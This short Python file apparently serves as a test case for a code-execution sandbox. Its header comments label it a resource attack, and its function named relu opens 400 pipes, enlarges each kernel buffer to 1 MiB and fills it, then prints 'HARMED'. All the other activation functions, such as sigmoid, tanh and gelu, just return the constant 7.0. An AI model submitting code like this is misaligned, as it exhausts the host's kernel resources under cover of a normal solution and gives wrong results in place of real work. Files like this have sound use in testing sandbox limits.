# attack: fills the kernel's buffers of hundreds of pipes
# gains: resources
# stopped by: rlimits, seccomp
import numpy as np
import fcntl
import os


def attack():
    pipes = []
    for _ in range(400):
        pipes.append(os.pipe())
        os.set_blocking(pipes[-1][1], False)
        fcntl.fcntl(pipes[-1][1], 1031, 1 << 20)
        try:
            os.write(pipes[-1][1], bytes(1 << 20))
        except BlockingIOError:
            pass
    print("HARMED: 400 full pipes")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
